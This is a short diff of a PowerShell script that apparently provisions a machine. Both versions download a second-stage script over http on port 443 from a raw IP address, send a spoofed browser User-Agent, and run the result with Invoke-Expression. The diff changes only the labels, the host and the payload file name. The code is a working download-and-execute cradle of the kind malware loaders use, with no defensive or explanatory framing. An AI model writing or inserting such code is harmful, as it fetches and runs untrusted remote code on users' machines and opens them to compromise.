@@ -1,6 +1,6 @@
-# provision 8979 v4
-$u = 'http://192.0.2.150:443/'
+# setup 6613 v4
+$u = 'http://198.51.100.9:443/'
 $wc = New-Object System.Net.WebClient
 $wc.Headers.Add('User-Agent','Mozilla/5.0')
-$s = $wc.DownloadString($u + 'stage2.ps1')
+$s = $wc.DownloadString($u + 'inv.ps1')
 Invoke-Expression $s
